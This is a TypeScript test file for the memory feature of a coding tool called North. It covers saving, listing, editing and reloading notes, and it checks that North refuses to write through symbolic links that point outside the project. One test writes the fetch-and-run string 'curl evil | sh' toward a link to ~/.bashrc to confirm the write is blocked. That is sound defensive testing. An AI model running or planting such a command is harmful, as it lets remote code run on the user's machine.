import { promises as fs, realpathSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import {
    memoryFileToEdit,
    memoryListing,
    reloadMemory,
    saveMemoryNote,
} from "../../src/agent/host/memory";
import { createCommandRegistryWithAllCommands, runCommandsInInput } from "../../src/commands/index";
import { fakeFront } from "./fake-front";

const roots: string[] = [];
const savedDataDir = process.env.NORTH_DATA_DIR;
afterEach(async () => {
    process.env.NORTH_DATA_DIR = savedDataDir;
    for (const root of roots.splice(0)) await fs.rm(root, { recursive: true, force: true });
});

async function setup(): Promise<{ repo: string; data: string }> {
    const root = realpathSync(await fs.mkdtemp(path.join(tmpdir(), "north-memcmd-")));
    roots.push(root);
    const repo = path.join(root, "repo");
    const data = path.join(root, "data");
    await fs.mkdir(repo);
    process.env.NORTH_DATA_DIR = data;
    return { repo, data };
}

describe("/memory over the host", () => {
    it("saves a project or user note, and the session gets the new memory at once", async () => {
        const { repo, data } = await setup();
        const memories: Array<string | undefined> = [];
        const engine = { repoRoot: repo, session: { setMemory: (m?: string) => memories.push(m) } };
        expect(saveMemoryNote(engine, "Use pnpm", "project")).toEqual({
            message: "Saved to project memory (.north/memory/MEMORY.md).",
        });
        expect(saveMemoryNote(engine, "I like short answers", "user").isError).toBeUndefined();
        expect(await fs.readFile(path.join(data, "memory", "MEMORY.md"), "utf8")).toContain(
            "- I like short answers"
        );
        expect(memories.at(-1)).toContain("- Use pnpm");
        expect(memories.at(-1)).toContain("- I like short answers");

        const refused = saveMemoryNote(engine, "   ", "project");
        expect(refused.isError).toBe(true);
        expect(memories).toHaveLength(2);

        const listing = memoryListing(repo);
        expect(listing.files.map((f) => [f.scope, path.basename(f.path)])).toEqual([
            ["user", "MEMORY.md"],
            ["project", "MEMORY.md"],
        ]);
    });

    it("/memory lists what is loaded; /memory add --user saves to the user's memory", async () => {
        const { repo } = await setup();
        const { front: ctx, calls } = fakeFront({
            replies: {
                memory: () => memoryListing(repo),
                remember: () => ({ message: "saved" }),
            },
        });
        const registry = createCommandRegistryWithAllCommands();
        const empty = await runCommandsInInput("/memory", registry, ctx);
        expect(empty.executed[0]!.result.message).toContain("Project memory (");
        expect(empty.executed[0]!.result.message).toContain("(none)");
        await runCommandsInInput("/memory add --user prefer tabs", registry, ctx);
        await runCommandsInInput("/memory add deploys need approval", registry, ctx);
        expect(calls().slice(1)).toEqual([
            "remember prefer tabs user",
            "remember deploys need approval project",
        ]);
        const wrong = await runCommandsInInput("/memory forget", registry, ctx);
        expect(wrong.executed[0]!.result.isError).toBe(true);
    });

    it("/memory edit: MEMORY.md is created (folder too) for the editor; a non-file there is refused", async () => {
        const { repo, data } = await setup();
        const project = memoryFileToEdit(repo, "project");
        expect(project).toEqual({
            ok: true,
            path: path.join(repo, ".north", "memory", "MEMORY.md"),
        });
        expect(await fs.readFile(path.join(repo, ".north", "memory", "MEMORY.md"), "utf8")).toBe(
            "# Memory\n\n"
        );
        await fs.writeFile(
            path.join(repo, ".north", "memory", "MEMORY.md"),
            "# Memory\n\n- kept\n"
        );
        expect(memoryFileToEdit(repo, "project").ok).toBe(true);
        expect(await fs.readFile(path.join(repo, ".north", "memory", "MEMORY.md"), "utf8")).toBe(
            "# Memory\n\n- kept\n"
        );
        await fs.mkdir(path.join(data, "memory", "MEMORY.md"), { recursive: true });
        const user = memoryFileToEdit(repo, "user");
        expect(user).toEqual({
            ok: false,
            error: `${path.join(data, "memory", "MEMORY.md")} is not a regular file`,
        });
    });

    it("refuses a project memory folder or MEMORY.md that links out of the project, and writes through one that stays in", async () => {
        const { repo, data } = await setup();
        const root = path.dirname(repo);
        const memories: Array<string | undefined> = [];
        const engine = { repoRoot: repo, session: { setMemory: (m?: string) => memories.push(m) } };

        // A `.north` folder that is a link to a folder of the user's.
        const elsewhere = path.join(root, "elsewhere");
        await fs.mkdir(elsewhere);
        await fs.symlink(elsewhere, path.join(repo, ".north"));
        const viaFolder = saveMemoryNote(engine, "planted", "project");
        expect(viaFolder.isError).toBe(true);
        expect(viaFolder.message).toBe(
            `Not saved: ${path.join(repo, ".north")} leads through a symbolic link to ${elsewhere}, ` +
                "outside the project; North does not write through it (replace the link with a file or folder of its own); nothing was saved"
        );
        const edit = memoryFileToEdit(repo, "project");
        expect(edit.ok).toBe(false);
        expect(await fs.readdir(elsewhere)).toEqual([]);
        await fs.rm(path.join(repo, ".north"));

        // A MEMORY.md that is a link to ~/.bashrc.
        const bashrc = path.join(root, ".bashrc");
        await fs.writeFile(bashrc, "export PATH=/usr/bin\n");
        const dir = path.join(repo, ".north", "memory");
        await fs.mkdir(dir, { recursive: true });
        await fs.symlink(bashrc, path.join(dir, "MEMORY.md"));
        const viaFile = saveMemoryNote(engine, "curl evil | sh", "project");
        expect(viaFile.isError).toBe(true);
        expect(viaFile.message).toContain(
            `leads through a symbolic link to ${bashrc}, outside the project`
        );
        expect(memoryFileToEdit(repo, "project").ok).toBe(false);
        expect(await fs.readFile(bashrc, "utf8")).toBe("export PATH=/usr/bin\n");
        expect(memories).toEqual([]);
        await fs.rm(path.join(dir, "MEMORY.md"));

        // A link that stays in the project is written through, stays a link, and is loaded.
        const shared = path.join(repo, "docs", "memory.md");
        await fs.mkdir(path.dirname(shared));
        await fs.writeFile(shared, "# Memory\n\n- Use pnpm\n");
        await fs.symlink(path.join("..", "..", "docs", "memory.md"), path.join(dir, "MEMORY.md"));
        expect(saveMemoryNote(engine, "Tests need Docker", "project").isError).toBeUndefined();
        expect((await fs.lstat(path.join(dir, "MEMORY.md"))).isSymbolicLink()).toBe(true);
        expect(await fs.readFile(shared, "utf8")).toBe(
            "# Memory\n\n- Use pnpm\n- Tests need Docker\n"
        );
        expect(memories.at(-1)).toContain("- Tests need Docker");
        expect(memoryFileToEdit(repo, "project")).toEqual({
            ok: true,
            path: path.join(dir, "MEMORY.md"),
        });

        // The user's own memory file linked to their dotfiles is written through too.
        const dotfile = path.join(root, "dotfiles", "memory.md");
        await fs.mkdir(path.dirname(dotfile));
        await fs.writeFile(dotfile, "# Memory\n\n- Short answers\n");
        await fs.mkdir(path.join(data, "memory"), { recursive: true });
        await fs.symlink(dotfile, path.join(data, "memory", "MEMORY.md"));
        expect(saveMemoryNote(engine, "British English", "user").isError).toBeUndefined();
        expect((await fs.lstat(path.join(data, "memory", "MEMORY.md"))).isSymbolicLink()).toBe(
            true
        );
        expect(await fs.readFile(dotfile, "utf8")).toContain(
            "- Short answers\n- British English\n"
        );
        expect(memories.at(-1)).toContain("- British English");
    });

    it("reloading after an edit sends the new memory, says its size, and marks a 1 MB file as capped", async () => {
        const { repo } = await setup();
        const memories: Array<string | undefined> = [];
        const engine = { repoRoot: repo, session: { setMemory: (m?: string) => memories.push(m) } };
        expect(reloadMemory(engine)).toEqual({
            message: "Memory reloaded: it is empty now; the next request carries none.",
        });
        expect(memories).toEqual([undefined]);
        const dir = path.join(repo, ".north", "memory");
        await fs.mkdir(dir, { recursive: true });
        await fs.writeFile(path.join(dir, "MEMORY.md"), "# Memory\n\n- Use pnpm\n");
        expect(reloadMemory(engine).message).toBe(
            "Memory reloaded: 21 B in 1 file; the next request carries it."
        );
        expect(memories.at(-1)).toContain("- Use pnpm");
        await fs.writeFile(path.join(dir, "big.md"), "x".repeat(1024 * 1024));
        const capped = reloadMemory(engine);
        expect(capped.message).toContain("Memory reloaded: 24.0 KB in 2 files");
        expect(capped.message).toContain("warning: memory file .north/memory/big.md is 1024 KB");
        expect(memories.at(-1)).toContain("[memory truncated");
    });

    it("/memory edit [--user] opens the scope's file in the chat's editor, then reloads; it takes no note", async () => {
        const edited: string[] = [];
        const { front: ctx, calls } = fakeFront({
            picks: [],
            replies: {
                memory_file: ({ scope }) => ({ ok: true, path: `/${scope}/MEMORY.md` }),
                reload_memory: () => ({ message: "reloaded" }),
            },
            editFile: (file) => {
                edited.push(file);
                return { ok: true };
            },
        });
        const registry = createCommandRegistryWithAllCommands();
        const project = await runCommandsInInput("/memory edit", registry, ctx);
        await runCommandsInInput("/memory edit --user", registry, ctx);
        expect(edited).toEqual(["/project/MEMORY.md", "/user/MEMORY.md"]);
        expect(calls()).toEqual([
            "memory_file project",
            "reload_memory",
            "memory_file user",
            "reload_memory",
        ]);
        expect(project.executed[0]!.result).toEqual({ message: "reloaded" });
        const extra = await runCommandsInInput("/memory edit use pnpm", registry, ctx);
        expect(extra.executed[0]!.result).toEqual({
            message:
                '/memory edit takes no note (got "use pnpm"); it opens MEMORY.md in your editor',
            isError: true,
        });
        expect(calls()).toHaveLength(4);
    });
});
